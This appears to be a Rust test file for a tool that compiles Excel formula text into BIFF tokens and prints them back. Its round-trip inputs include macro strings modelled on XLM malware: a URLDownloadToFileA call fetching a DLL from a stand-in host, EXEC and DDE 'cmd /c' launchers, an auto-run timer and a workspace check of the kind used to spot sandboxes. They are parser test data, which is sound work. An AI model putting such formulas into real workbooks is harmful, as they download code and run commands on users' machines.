//! Text to tokens, whole values; and text to tokens to text for any tree.

use proptest::prelude::*;

use super::super::{Expression, Function, NameSource, Printed, Scope, Target, print_expression};
use super::*;
use crate::base::{Budget, LimitKind, Limits, PartId, Problems, Stage};
use crate::documents::workbook::{
    DefinedName, ExternalBook, ExternalKind, ExternalName, Sheet, SheetRange, TokenSpan, Workbook,
};

fn with_cx<T>(work: impl FnOnce(&mut Cx<'_>) -> T) -> T {
    let mut budget = Budget::new(&Limits::default());
    let mut problems = Problems::default();
    work(&mut Cx { part: PartId(0), stage: Stage::Formula, budget: &mut budget, problems: &mut problems })
}

fn defined(name: &str, scope: Option<u16>) -> DefinedName {
    let (name, tokens) = (name.to_owned(), TokenSpan::default());
    DefinedName { at: 0, name, builtin: None, wide: false, flags: 0, scope, tokens, key: 0 }
}

fn book(kind: ExternalKind, path: &str, sheets: &[&str], names: &[&str]) -> ExternalBook {
    let name = |name: &&str| ExternalName {
        at: 0,
        name: (*name).to_owned(),
        automatic: false,
        tokens: TokenSpan::default(),
    };
    ExternalBook {
        at: 0,
        kind,
        path: path.to_owned(),
        sheets: sheets.iter().map(|sheet| (*sheet).to_owned()).collect(),
        names: names.iter().map(name).collect(),
    }
}

/// Three sheets; names `run_it`, `local` of the second sheet, `Überall`; this workbook and another.
fn workbook() -> Workbook {
    let sheet = |name: &str| Sheet { name: name.to_owned(), ..Sheet::default() };
    let range = |book, first, last| SheetRange { book, first, last };
    Workbook {
        version: BiffVersion::Biff12,
        sheets: vec![sheet("Sheet1"), sheet("It's"), sheet("Macro 1")],
        names: vec![defined("run_it", None), defined("local", Some(1)), defined("Überall", None)],
        books: vec![
            book(ExternalKind::SelfReference, "", &[], &[]),
            book(ExternalKind::Workbook, r"C:\a b\book.xls", &["Data", "More"], &["Rate"]),
        ],
        sheet_ranges: vec![range(0, 0, 0), range(0, 1, 1), range(0, 0, 2), range(1, 0, 0)],
        ..Workbook::default()
    }
}

fn compile_in(text: &str, options: &Options, workbook: &mut Workbook) -> Result<Compiled, TextError> {
    with_cx(|cx| {
        let mut tables = Tables::new(workbook, cx).unwrap();
        tables.file_name = Some("own.xlsm".to_owned());
        compile(text, options, &mut tables.over(workbook, Some(0)), cx)
    })
}

fn printed_in(compiled: &Compiled, cell: (u32, u32), workbook: &Workbook) -> (String, Printed) {
    with_cx(|cx| {
        let expression = Expression::parse(&compiled.rgce, &compiled.rgcb, BiffVersion::Biff12, cx).unwrap();
        let scope = Scope { workbook, sheet: Some(0), cell: Some(cell) };
        let mut text = String::new();
        let printed = print_expression(&expression, &scope, 1 << 20, cx, &mut text).unwrap();
        (text, printed)
    })
}

#[track_caller]
fn tokens_of(text: &str) -> Vec<u8> {
    compile_in(text, &Options::default(), &mut workbook()).unwrap().rgce
}

/// What the text becomes when it is printed again.
#[track_caller]
fn reads_with(options: &Options, text: &str, expected: &str) {
    let mut workbook = workbook();
    let compiled = compile_in(text, options, &mut workbook).unwrap();
    let (again, printed) = printed_in(&compiled, options.cell, &workbook);
    assert_eq!(again, expected);
    assert_eq!(printed, Printed { complete: true, cut: false }, "{again}");
}

#[track_caller]
fn reads(text: &str, expected: &str) {
    reads_with(&Options::default(), text, expected);
}

#[track_caller]
fn fails(text: &str, expected: TextError) {
    assert_eq!(compile_in(text, &Options::default(), &mut workbook()), Err(expected), "{text}");
}

#[test]
fn constants_become_their_tokens() {
    assert_eq!(tokens_of("=0"), [0x1E, 0, 0]);
    assert_eq!(tokens_of("65535"), [0x1E, 0xFF, 0xFF]);
    assert_eq!(tokens_of("=1.0"), [0x1E, 1, 0]);
    let number = |value: f64| [&[0x1F][..], &value.to_le_bytes()].concat();
    assert_eq!(tokens_of("=65536"), number(65536.0));
    assert_eq!(tokens_of("=.5"), number(0.5));
    assert_eq!(tokens_of("=1.5E3"), [0x1E, 0xDC, 0x05]);
    assert_eq!(tokens_of("=1e-3"), number(0.001));
    assert_eq!(tokens_of("=12345678901234567890"), number(12_345_678_901_234_500_000.0));
    assert_eq!(tokens_of("=0.00012345678901234567"), number(0.000_123_456_789_012_345));
    assert_eq!(tokens_of("=true"), [0x1D, 1]);
    assert_eq!(tokens_of("=FALSE"), [0x1D, 0]);
    assert_eq!(tokens_of("=#n/a"), [0x1C, 0x2A]);
    assert_eq!(tokens_of("=#DIV/0!"), [0x1C, 0x07]);
    assert_eq!(tokens_of("=\"a\"\"日\""), [0x17, 3, 0, b'a', 0, b'"', 0, 0xE5, 0x65]);
    assert_eq!(tokens_of("=\"\""), [0x17, 0, 0]);
    assert_eq!(tokens_of("=\"\"\"\""), [0x17, 1, 0, b'"', 0]);
    assert_eq!(tokens_of("= \"=1+1\" "), tokens_of("\"=1+1\""));
}

#[test]
fn references_become_positions_with_flags() {
    // PtgRef: row 4 bytes, column with colRelative 0x4000 and rowRelative 0x8000
    assert_eq!(tokens_of("=$C$5"), [0x24, 4, 0, 0, 0, 2, 0]);
    assert_eq!(tokens_of("=c5"), [0x24, 4, 0, 0, 0, 2, 0xC0]);
    assert_eq!(tokens_of("=XFD$1048576"), [0x24, 0xFF, 0xFF, 0x0F, 0, 0xFF, 0x7F]);
    assert_eq!(tokens_of("=A1:$B2"), [0x25, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0xC0, 1, 0x80]);
    assert_eq!(tokens_of("=A:$B"), [0x25, 0, 0, 0, 0, 0xFF, 0xFF, 0x0F, 0, 0, 0x40, 1, 0]);
    assert_eq!(tokens_of("=1:$2"), [0x25, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0x80, 0xFF, 0x3F]);
    // PtgRef3d, PtgArea3d, PtgRefErr3d: ixti first
    assert_eq!(tokens_of("=Sheet1!A1"), [0x3A, 0, 0, 0, 0, 0, 0, 0, 0xC0]);
    assert_eq!(tokens_of("='It''s'!A1:A2"), [0x3B, 1, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0xC0, 0, 0xC0]);
    assert_eq!(tokens_of("='Sheet1:Macro 1'!A1"), [0x3A, 2, 0, 0, 0, 0, 0, 0, 0xC0]);
    assert_eq!(tokens_of(r"='C:\a b\[book.xls]Data'!A1"), [0x3A, 3, 0, 0, 0, 0, 0, 0, 0xC0]);
    assert_eq!(tokens_of("=SHEET1!#REF!"), [0x3C, 0, 0, 0, 0, 0, 0, 0, 0]);
    // PtgName, PtgNameX
    assert_eq!(tokens_of("=RUN_IT"), [0x23, 1, 0, 0, 0]);
    assert_eq!(tokens_of("=überALL"), [0x23, 3, 0, 0, 0]);
    assert_eq!(tokens_of("='It''s'!local"), [0x39, 1, 0, 2, 0, 0, 0]);
}

/// The short way to a cell never says anything else than the whole grammar.
#[test]
fn a_plain_cell_is_what_the_whole_grammar_reads() {
    let texts = [
        "A1",
        "$B$3",
        "b$7",
        "$iv65536",
        "IW1",
        "XFD1048576",
        "XFE1",
        "A16384",
        "A16385",
        "A65537",
        "A1048577",
        "A0",
        "A01",
        "R1C1",
        "1",
        "A",
        "$",
        "$A",
        "A1 ",
        "A1:B2",
        "A1B",
        "ABCD1",
        "A12345678",
        "日1",
        "$$A1",
        "A$$1",
        "A-1",
        "",
    ];
    let mut plain = Vec::new();
    for version in [BiffVersion::Biff12, BiffVersion::Biff8, BiffVersion::Biff5] {
        for text in texts {
            let Some(cell) = plain_cell(text, version) else { continue };
            let compiled = compile_in(text, &Options::for_version(version), &mut workbook()).unwrap();
            let [0x24, row @ .., low, high] = compiled.rgce.as_slice() else {
                panic!("{text}: {compiled:?}")
            };
            let row = u32::from_le_bytes(row.try_into().unwrap());
            assert_eq!(cell, (row, u16::from_le_bytes([*low, *high]) & 0x3FFF), "{text}");
            plain.push(text);
        }
    }
    let in_all = ["A1", "$B$3", "b$7"];
    let biff12 = ["$iv65536", "IW1", "XFD1048576", "A16384", "A16385", "A65537"];
    let biff8 = ["$iv65536", "A16384", "A16385"];
    let expected = [&in_all[..], &biff12, &in_all, &biff8, &in_all, &["A16384"]].concat();
    assert_eq!(plain, expected);
}

#[test]
fn calls_become_functions_commands_and_names() {
    // PtgFunc, PtgFuncVar: count, identifier, highest bit for a command
    assert_eq!(tokens_of("=CHAR(65)"), [0x1E, 65, 0, 0x41, 0x6F, 0]);
    assert_eq!(tokens_of("=exec(\"\")"), [0x17, 0, 0, 0x42, 1, 0x6E, 0]);
    assert_eq!(tokens_of("=HALT()"), [0x42, 0, 0x36, 0]);
    assert_eq!(tokens_of("=ALERT(1)"), [0x1E, 1, 0, 0x42, 1, 0x76, 0x80]);
    assert_eq!(tokens_of("=OPEN?(1)"), [0x1E, 1, 0, 0x42, 0x81, 0x01, 0x80]);
    assert_eq!(tokens_of("=FORMULA(1,)"), [0x1E, 1, 0, 0x16, 0x42, 2, 0x60, 0x80]);
    assert_eq!(tokens_of("=IF(,,)"), [0x16, 0x16, 0x16, 0x42, 3, 1, 0]);
    // PtgName, arguments, PtgFuncVar 0xFF
    assert_eq!(tokens_of("=run_it(1)"), [0x23, 1, 0, 0, 0, 0x1E, 1, 0, 0x42, 2, 0xFF, 0]);
    assert_eq!(tokens_of("=$H$5()"), [0x24, 4, 0, 0, 0, 7, 0, 0x42, 1, 0xFF, 0]);
    assert_eq!(tokens_of("=LOG10(1)"), tokens_of("=log10(1)"));
    assert_eq!(tokens_of("=SUM (1)"), [0x1E, 1, 0, 0x42, 1, 4, 0]);
    assert_eq!(tokens_of("=(1)"), [0x1E, 1, 0, 0x15]);
}

#[test]
fn operators_bind_as_in_excel() {
    let int = |value: u8| vec![0x1E, value, 0];
    let row = |parts: &[&[u8]]| parts.concat();
    assert_eq!(tokens_of("=1+2*3"), row(&[&int(1), &int(2), &int(3), &[0x05, 0x03]]));
    assert_eq!(tokens_of("=1-2-3"), row(&[&int(1), &int(2), &[0x04], &int(3), &[0x04]]));
    assert_eq!(tokens_of("=2^3^2"), row(&[&int(2), &int(3), &[0x07], &int(2), &[0x07]]));
    assert_eq!(tokens_of("=-2^2"), row(&[&int(2), &[0x13], &int(2), &[0x07]]));
    assert_eq!(tokens_of("=2^-2"), row(&[&int(2), &int(2), &[0x13, 0x07]]));
    assert_eq!(tokens_of("=-5%"), row(&[&int(5), &[0x13, 0x14]]));
    assert_eq!(tokens_of("=2^5%%"), row(&[&int(2), &int(5), &[0x14, 0x14, 0x07]]));
    assert_eq!(tokens_of("=--+1"), row(&[&int(1), &[0x12, 0x13, 0x13]]));
    assert_eq!(tokens_of("=1&2=3"), row(&[&int(1), &int(2), &[0x08], &int(3), &[0x0B]]));
    assert_eq!(tokens_of("=1<>2"), row(&[&int(1), &int(2), &[0x0E]]));
}

#[test]
fn reference_operators_are_told_from_spaces_and_separators() {
    reads("=SUM( A1 , B2 )", "SUM(A1,B2)");
    reads("=SUM((A1,B2))", "SUM((A1,B2))");
    reads("=A1,B2", "A1,B2");
    reads("=SUM(A1:B9 B2:C3)", "SUM(A1:B9 B2:C3)");
    reads("=A1 run_it", "A1 run_it");
    reads("=A1 : B2", "A1:B2");
    reads("=A1:INDEX(B:B,3)", "A1:INDEX(B:B,3)");
    reads("=A1:B2:C3", "A1:B2:C3");
    // Without the space these would be columns, and sheets.
    reads("=n :o", "n :o");
    reads("=n :o:p", "n :O:P");
    reads("=A1 :n", "A1:n");
    reads("=run_it :Sheet1!A1", "run_it :Sheet1!A1");
    reads("=n :y!r", "n :y!r");
    reads("=y!n :$O:$P", "y!n :$O:$P");
    reads("= 1\n +\t2 ", "1+2");
    reads("=A1 -B1", "A1-B1");
    reads("=A1 (B1)", "A1 (B1)");
    reads("=Sheet1!A1:Sheet1!B2", "Sheet1!A1:Sheet1!B2");
    reads("=@A1:B2", "A1:B2");
}

#[test]
fn text_comes_back_as_it_was() {
    for text in [
        r#"CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://files.invalid/a.dll","..\a.ocx",0,0)"#,
        r#"EXEC("cmd /c echo ""x"" & exit")"#,
        r#"FORMULA("=ALERT(""a"")",Sheet1!R1C1)"#,
        r#"IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)"#,
        "FORMULA.FILL(CHAR(61)&CHAR(65),'Macro 1'!$A$1:$A$3)",
        "_xlfn.CONCAT(A1:A3)",
        "'C:\\a b\\book.xls'!Rate",
        "cmd|'/c calc'!A0",
        "cmd|'/c calc'!'a b'",
        "!A1+!name",
        "#REF!A1",
        "#REF!#REF!",
        "{1,-2.5;\"a\"\"b\",TRUE}&{#N/A}",
        "Book.xlm!go(1,2)",
        "'[Book 2.xls]S 1'!$A$1",
        "[b.xls]Data!A1:B2",
        "名前(1)&Ärger",
        "GOTO(Later!A1)",
        "RUN(Later!go)",
        "RUN(Sheet1!go)",
        "x.y_z\\a?b",
        "SUM(Table1[[#Totals],[Col '[x']]])",
        "DIALOG.BOX(A1)=\"a\"=EXEC(\"b\")",
        "ON.TIME(NOW()+\"00:00:02\",\"go\")",
        "-(1+2)%",
    ] {
        reads(&format!("={text}"), text);
    }
}

/// Each form of text that FORMULA and its kin carry: what it prints as, and that this is the same formula.
#[test]
fn every_form_that_macros_carry_comes_back() {
    let a1 = Options::default();
    let r1c1 = Options { style: Style::R1C1, cell: (4, 2), ..Options::default() };
    let semicolons = Options { signs: Signs::SEMICOLON, ..Options::default() };
    let european = Options { signs: Signs::EUROPEAN, ..Options::default() };
    let forms = [
        ("A1", &a1, "=SUM($A$1:B2,C:$D,1:$2)", "SUM($A$1:B2,C:$D,1:$2)"),
        ("R1C1", &r1c1, "=SUM(R1C1:R[-1]C[2],C4,R)", "SUM($A$1:E4,$D:$D,5:5)"),
        ("a sheet", &a1, "=Sheet1!A1+Sheet1!$A$1:B2", "Sheet1!A1+Sheet1!$A$1:B2"),
        ("a sheet in R1C1", &r1c1, "='Macro 1'!R[1]C[1]", "'Macro 1'!D6"),
        ("a quoted name with quotes", &a1, "='It''s'!A1&'it''S'!local", "'It''s'!A1&'It''s'!local"),
        ("sheets one behind the other", &a1, "=SUM('Sheet1:Macro 1'!A1:B2)", "SUM('Sheet1:Macro 1'!A1:B2)"),
        ("the same in R1C1", &r1c1, "=SUM('Sheet1:Macro 1'!R1C1)", "SUM('Sheet1:Macro 1'!$A$1)"),
        ("an array", &a1, "={1,-2.5;\"a;b\",#N/A}", "{1,-2.5;\"a;b\",#N/A}"),
        ("an array in a call", &a1, "=INDEX({\"a\",\"b\"},2)", "INDEX({\"a\",\"b\"},2)"),
        (
            "nested quotes",
            &a1,
            r#"=FORMULA("=EXEC(""a """"b"""" c"")",A1)"#,
            r#"FORMULA("=EXEC(""a """"b"""" c"")",A1)"#,
        ),
        ("only quotes", &a1, r#"="""""""""#, r#""""""""""#),
        ("no leading =", &a1, "EXEC(\"a\")", "EXEC(\"a\")"),
        ("a leading = in the text", &a1, "=\"=1+1\"", "\"=1+1\""),
        ("an inner =", &a1, "=ALERT(1)=EXEC(\"a\")=2", "ALERT(1)=EXEC(\"a\")=2"),
        ("an inner = in an argument", &a1, "=IF(A1=2,B1=\"=\")", "IF(A1=2,B1=\"=\")"),
        ("semicolons between arguments", &semicolons, "=IF(A1;1.5;\";\")", "IF(A1,1.5,\";\")"),
        ("a comma in numbers", &european, "=SUM(1,5;{1,5.2;3.4};(A1;B1))", "SUM(1.5,{1.5,2;3,4},(A1,B1))"),
    ];
    for (form, options, text, expected) in forms {
        let mut workbook = workbook();
        let compiled = compile_in(text, options, &mut workbook).unwrap();
        let (printed, whole) = printed_in(&compiled, options.cell, &workbook);
        assert_eq!(printed, expected, "{form}");
        assert_eq!(whole, Printed { complete: true, cut: false }, "{form}");
        // Relative parts of tokens in A1 are positions, so that the cell does not matter.
        assert_eq!(compile_in(&printed, &a1, &mut workbook), Ok(compiled), "{form}");
    }
}

#[test]
fn r1c1_counts_from_the_cell_and_wraps() {
    let at = |row, column| Options { style: Style::R1C1, cell: (row, column), ..Options::default() };
    reads_with(&at(4, 2), "=R1C1", "$A$1");
    reads_with(&at(4, 2), "=R[-1]C[2]", "E4");
    reads_with(&at(4, 2), "=RC", "C5");
    reads_with(&at(4, 2), "=rc[1]:r[+2]c3", "D5:$C7");
    reads_with(&at(0, 0), "=R[-1]C[-1]", "XFD1048576");
    reads_with(&at(4, 2), "=SUM(R1:R3,C[-1])", "SUM($1:$3,B:B)");
    reads_with(&at(4, 2), "=R", "5:5");
    reads_with(&at(4, 2), "=Sheet1!R2C2&'It''s'!R[1]C", "Sheet1!$B$2&'It''s'!C6");
    let small = Options { style: Style::R1C1, ..Options::for_version(BiffVersion::Biff8) };
    reads_with(&small, "=R[-1]C[-1]", "IV65536");
    // A1 is a name then, unless both are read.
    let compiled = compile_in("=A1", &at(0, 0), &mut workbook()).unwrap();
    assert_eq!(compiled.rgce.first(), Some(&0x39));
    reads_with(&Options { style: Style::Both, ..at(4, 2) }, "=A1+R[1]C1", "A1+$A6");
}

#[test]
fn relative_parts_become_distances_where_they_are_wanted() {
    let options = Options { cell: (4, 2), distances: true, ..Options::default() };
    let mut workbook = workbook();
    let compiled = compile_in("=B4+$A$1+Sheet1!C6", &options, &mut workbook).unwrap();
    let expected = [
        &[0x2C, 0xFF, 0xFF, 0x0F, 0, 0xFF, 0xFF][..],
        &[0x2C, 0, 0, 0, 0, 0, 0, 0x03],
        &[0x3A, 0, 0, 1, 0, 0, 0, 0, 0xC0, 0x03],
    ];
    assert_eq!(compiled.rgce, expected.concat());
    assert_eq!(printed_in(&compiled, (9, 9), &workbook).0, "I9+$A$1+Sheet1!A2");
}

#[test]
fn names_end_where_the_sheet_of_the_dialect_ends() {
    let kind = |text: &str, version| {
        compile_in(text, &Options::for_version(version), &mut workbook()).unwrap().rgce[0]
    };
    assert_eq!(kind("=ABC1", BiffVersion::Biff12), 0x24);
    assert_eq!(kind("=ABC1", BiffVersion::Biff8), 0x39);
    assert_eq!(kind("=IV65536", BiffVersion::Biff8), 0x24);
    assert_eq!(kind("=A65537", BiffVersion::Biff8), 0x39);
    assert_eq!(kind("=A16385", BiffVersion::Biff5), 0x39);
}

#[test]
fn assignments_are_told_from_comparisons_in_macro_sheets() {
    let options = Options { macro_sheet: true, ..Options::default() };
    let assigned = |text: &str| {
        let mut workbook = workbook();
        let compiled = compile_in(text, &options, &mut workbook).unwrap();
        with_cx(|cx| {
            let expression =
                Expression::parse(&compiled.rgce, &compiled.rgcb, BiffVersion::Biff12, cx).unwrap();
            (expression.is_assignment(), printed_in(&compiled, (0, 0), &workbook).0)
        })
    };
    assert_eq!(assigned("=run_it=5"), (true, "run_it=5".to_owned()));
    assert_eq!(assigned("=new = CHAR(65)&\"b\""), (true, "new=CHAR(65)&\"b\"".to_owned()));
    assert_eq!(assigned("=x=1=2"), (true, "x=(1=2)".to_owned()));
    assert_eq!(assigned("=A1=5"), (false, "A1=5".to_owned()));
    assert_eq!(assigned("=TRUE=5"), (false, "TRUE=5".to_owned()));
    assert_eq!(assigned("=5=5"), (false, "5=5".to_owned()));
    assert_eq!(assigned("=CHAR(1)=5"), (false, "CHAR(1)=5".to_owned()));
    assert_eq!(assigned("=(run_it)=5"), (false, "(run_it)=5".to_owned()));
    let plain = compile_in("=run_it=5", &Options::default(), &mut workbook()).unwrap();
    assert_eq!(plain.rgce[0], 0x23);
}

#[test]
fn signs_of_other_languages_are_read() {
    let european = Options { signs: Signs::EUROPEAN, ..Options::default() };
    reads_with(&european, "=SUM(1,5;A1;{1,5.2;3.4})", "SUM(1.5,A1,{1.5,2;3,4})");
    reads_with(&european, "=(A1;B1)", "(A1,B1)");
    let semicolon = Options { signs: Signs::SEMICOLON, ..Options::default() };
    reads_with(&semicolon, "=IF(A1;1.5;)", "IF(A1,1.5,)");
}

#[test]
fn what_a_workbook_lacks_keeps_its_text() {
    let mut workbook = workbook();
    let names = workbook.names.len();
    let compiled = compile_in("=Later!go(new)", &Options::default(), &mut workbook).unwrap();
    assert_eq!(workbook.names.len(), names);
    let source = workbook.books.last().unwrap();
    // A word that is no sheet is a workbook before a name.
    assert_eq!((source.kind, source.path.as_str()), (ExternalKind::Unknown, ""));
    assert_eq!(source.names.iter().map(|name| name.name.as_str()).collect::<Vec<_>>(), ["new"]);
    with_cx(|cx| {
        let expression = Expression::parse(&compiled.rgce, &compiled.rgcb, BiffVersion::Biff12, cx).unwrap();
        let call = expression.calls().next().unwrap();
        assert!(matches!(call.function, Function::UserDefined(NameSource::NameX(..))));
        assert_eq!(call.function.name(&workbook), Some("go"));
    });
    let sheets = compile_in("=Nowhere!A1", &Options::default(), &mut workbook).unwrap();
    with_cx(|cx| {
        let expression = Expression::parse(&sheets.rgce, &sheets.rgcb, BiffVersion::Biff12, cx).unwrap();
        let scope = Scope { workbook: &workbook, sheet: Some(0), cell: None };
        let reference = expression.references(&scope).next().unwrap();
        let Target::Book { book, sheet: Some(sheet) } = reference.target else { panic!("{reference:?}") };
        assert_eq!(workbook.books[book].kind, ExternalKind::Unknown);
        assert_eq!(workbook.books[book].sheets[sheet as usize], "Nowhere");
    });
    // Asked again, nothing is added.
    let books = workbook.books.clone();
    let again = compile_in("=later!GO(NEW)+nowhere!A1", &Options::default(), &mut workbook).unwrap();
    assert_eq!(workbook.books, books);
    assert_eq!(printed_in(&again, (0, 0), &workbook).0, "Later!go(new)+Nowhere!A1");
}

#[test]
fn the_active_sheet_and_this_workbook_are_targets() {
    let target = |text: &str| {
        let mut workbook = workbook();
        let compiled = compile_in(text, &Options::default(), &mut workbook).unwrap();
        with_cx(|cx| {
            let expression =
                Expression::parse(&compiled.rgce, &compiled.rgcb, BiffVersion::Biff12, cx).unwrap();
            let scope = Scope { workbook: &workbook, sheet: Some(0), cell: None };
            expression.references(&scope).next().unwrap().target
        })
    };
    assert_eq!(target("=!A1"), Target::Active);
    assert_eq!(target("=A1"), Target::Here);
    assert_eq!(target("=[0]Sheet1!A1"), Target::Sheets { first: 0, last: 0 });
    assert_eq!(target("=[OWN.xlsm]Sheet1!A1"), Target::Sheets { first: 0, last: 0 });
    assert_eq!(target("=#REF!A1"), Target::Deleted);
    assert_eq!(target("=Sheet1:'x'!A1".replace('\'', "").as_str()), Target::Book { book: 2, sheet: Some(0) });
    let own = tokens_of("=own.xlsm!run_it");
    assert_eq!(own.first(), Some(&0x39));
    reads("=own.xlsm!run_it", "run_it");
}

#[test]
fn numbers_in_brackets_name_the_sources_of_an_xml_part() {
    let mut workbook = workbook();
    let compiled = with_cx(|cx| {
        let mut tables = Tables::new(&workbook, cx).unwrap();
        tables.numbered = vec![1];
        let text = "=[1]Data!A1+[1]!Rate+[7]Data!A1";
        compile(text, &Options::default(), &mut tables.over(&mut workbook, None), cx).unwrap()
    });
    let expected = r"'C:\a b\[book.xls]Data'!A1+'C:\a b\book.xls'!Rate+[7]Data!A1";
    assert_eq!(printed_in(&compiled, (0, 0), &workbook).0, expected);
}

#[test]
fn text_that_is_no_formula_says_where() {
    fails("", TextError::Ends { at: 0 });
    fails("=", TextError::Ends { at: 1 });
    fails("=1+", TextError::Ends { at: 3 });
    fails("==1", TextError::Unexpected { at: 1, found: '=' });
    fails("=1 2", TextError::Unexpected { at: 3, found: '2' });
    fails("=\"abc", TextError::Open { at: 1, opening: '"' });
    fails("='abc", TextError::Open { at: 1, opening: '\'' });
    fails("='abc'", TextError::Ends { at: 6 });
    fails("=(1", TextError::Open { at: 1, opening: '(' });
    fails("=SUM(1", TextError::Open { at: 1, opening: '(' });
    fails("=1)", TextError::Unexpected { at: 2, found: ')' });
    fails("=()", TextError::Unexpected { at: 2, found: ')' });
    fails("=(1,)", TextError::Unexpected { at: 4, found: ')' });
    fails("=SUM(-)", TextError::Unexpected { at: 6, found: ')' });
    fails("=SUM(1+,2)", TextError::Unexpected { at: 7, found: ',' });
    fails("=MID(\"a\",1)", TextError::Arguments { at: 1, have: 2, need: 3 });
    fails("=12ab", TextError::Unexpected { at: 3, found: 'a' });
    fails("=1E999", TextError::Number { at: 1 });
    fails("={}", TextError::Unexpected { at: 2, found: '}' });
    fails("={1;2,3}", TextError::Array { at: 1 });
    fails("={1", TextError::Open { at: 1, opening: '{' });
    fails("=#WHAT!", TextError::Unexpected { at: 1, found: '#' });
    fails("=[b.xls", TextError::Open { at: 1, opening: '[' });
    fails("=T[a", TextError::Open { at: 2, opening: '[' });
    fails("=Sheet1!", TextError::Unexpected { at: 1, found: '!' });
    fails("=cmd|'/c'", TextError::Ends { at: 9 });
    fails("http://files.invalid/a", TextError::Unexpected { at: 5, found: '/' });
    fails("=日本 あ\u{3000}~", TextError::Unexpected { at: 14, found: '~' });
}

#[test]
fn long_and_deep_text_ends_within_its_limits() {
    let long = "1".repeat(MAX_LEN + 1);
    fails(&long, TextError::TooLong { len: long.len() as u64 });
    let deep = format!("={}1{}", "(".repeat(45_000), ")".repeat(45_000));
    assert_eq!(tokens_of(&deep).len(), 45_003);
    let deep = format!("={}1{}", "SIN(".repeat(15_000), ")".repeat(15_000));
    assert_eq!(tokens_of(&deep).len(), 45_003);
    let signs = format!("={}A1{}", "-".repeat(40_000), ",A1".repeat(15_000));
    assert_eq!(tokens_of(&signs).len(), 7 * 15_001 + 15_000 + 40_000);
    let many = format!("=SUM({}1)", "1,".repeat(254));
    assert_eq!(tokens_of(&many).len(), 255 * 3 + 4);
    fails(&format!("=SUM({}1)", "1,".repeat(255)), TextError::Arguments { at: 1, have: 255, need: 255 });
    let mut budget = Budget::new(&Limits { steps: 2, ..Limits::default() });
    let mut problems = Problems::default();
    let mut cx = Cx { part: PartId(0), stage: Stage::Formula, budget: &mut budget, problems: &mut problems };
    let mut workbook = Workbook::default();
    let result =
        compile("=1+1+1+1+1", &Options::default(), &mut Tables::default().over(&mut workbook, None), &mut cx);
    assert!(matches!(result, Err(TextError::Limit(hit)) if hit.kind == LimitKind::Steps));
}

#[test]
fn a_shell_has_the_names_and_sheets_of_its_workbook() {
    let mut workbook = Workbook { version: BiffVersion::Biff8, ..workbook() };
    workbook.names[0].tokens = workbook.tokens.push(&[0x1E, 1, 0], &[]).unwrap();
    with_cx(|cx| {
        let mut shell = Tables::shell(&workbook, cx).unwrap();
        let mut tables = Tables::new(&workbook, cx).unwrap();
        assert_eq!(shell.version, BiffVersion::Biff12);
        assert_eq!(shell.names.len(), 3);
        assert_eq!(shell.names[0].tokens, TokenSpan::default());
        let span = tables.formula("=run_it+Sheet1!A1", &Options::default(), &mut shell, Some(0), cx).unwrap();
        assert_eq!(shell.tokens.get(span).0, tokens_of("=run_it+Sheet1!A1"));
        assert_eq!(tables.sheet("MACRO 1"), Some(2));
    });
}

/// A subtree as tokens, and whether it is a reference.
type Tree = (Vec<u8>, Vec<u8>);

fn joined(parts: Vec<Tree>, operator: &[u8]) -> Tree {
    let mut all = Tree::default();
    for (rgce, rgcb) in parts {
        all.0.extend(rgce);
        all.1.extend(rgcb);
    }
    all.0.extend(operator);
    all
}

fn cell_bytes() -> impl Strategy<Value = Vec<u8>> {
    (0u32..1 << 20, 0u16..1 << 14, 0u16..4).prop_map(|(row, column, flags)| {
        [&row.to_le_bytes()[..], &(column | flags << 14).to_le_bytes()].concat()
    })
}

fn area_bytes() -> impl Strategy<Value = Vec<u8>> {
    (cell_bytes(), cell_bytes()).prop_map(|(a, b)| [&a[..4], &b[..4], &a[4..], &b[4..]].concat())
}

/// Tokens that are references: cells, names, and areas in sheets.
fn reference() -> impl Strategy<Value = Tree> {
    prop_oneof![
        cell_bytes().prop_map(|cell| [&[0x24][..], &cell].concat()),
        area_bytes().prop_map(|area| [&[0x25][..], &area].concat()),
        (0u8..4, cell_bytes()).prop_map(|(ixti, cell)| [&[0x3A, ixti, 0][..], &cell].concat()),
        (0u8..4, area_bytes()).prop_map(|(ixti, area)| [&[0x3B, ixti, 0][..], &area].concat()),
        (1u8..4).prop_map(|index| vec![0x23, index, 0, 0, 0]),
        Just(vec![0x39, 3, 0, 1, 0, 0, 0]),
        (0u8..4).prop_map(|ixti| vec![0x3C, ixti, 0, 0, 0, 0, 0, 0, 0]),
        Just(vec![0x2A, 0, 0, 0, 0, 0, 0]),
    ]
    .prop_map(|rgce| (rgce, Vec::new()))
}

fn constant() -> impl Strategy<Value = Tree> {
    let text = |text: String| {
        let units: Vec<u16> = text.encode_utf16().collect();
        let count = u16::try_from(units.len()).unwrap().to_le_bytes();
        let bytes: Vec<u8> = units.iter().flat_map(|unit| unit.to_le_bytes()).collect();
        [&count[..], &bytes].concat()
    };
    let number = prop_oneof![any::<f64>(), (-1e9..1e9f64), (0u32..1_000_000).prop_map(f64::from)];
    let element = prop_oneof![
        number.clone().prop_map(|value| [&[0x00][..], &value.to_le_bytes()].concat()),
        "\\PC{0,6}".prop_map(move |content| [vec![0x01], text(content)].concat()),
        any::<bool>().prop_map(|value| vec![0x02, u8::from(value)]),
        Just(vec![0x04, 0x2A, 0, 0, 0]),
    ];
    let array = (1u32..4, 1u32..4).prop_flat_map(move |(rows, columns)| {
        let count = usize::try_from(rows * columns).unwrap();
        prop::collection::vec(element.clone(), count).prop_map(move |elements| {
            let size = [rows.to_le_bytes(), columns.to_le_bytes()].concat();
            (vec![0x60, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0], [size, elements.concat()].concat())
        })
    });
    prop_oneof![
        any::<u16>().prop_map(|value| ([&[0x1E][..], &value.to_le_bytes()].concat(), Vec::new())),
        number.prop_map(|value| ([&[0x1F][..], &value.to_le_bytes()].concat(), Vec::new())),
        "[ -~äß日\u{1}]{0,12}".prop_map(move |content| ([vec![0x17], text(content)].concat(), Vec::new())),
        any::<bool>().prop_map(|value| (vec![0x1D, u8::from(value)], Vec::new())),
        prop::sample::select(vec![0x00u8, 0x07, 0x0F, 0x17, 0x1D, 0x24, 0x2A, 0x2B])
            .prop_map(|code| (vec![0x1C, code], Vec::new())),
        array,
    ]
}

/// What is called: a name, `$H$5`, `H5`, `'It''s'!$H$5`.
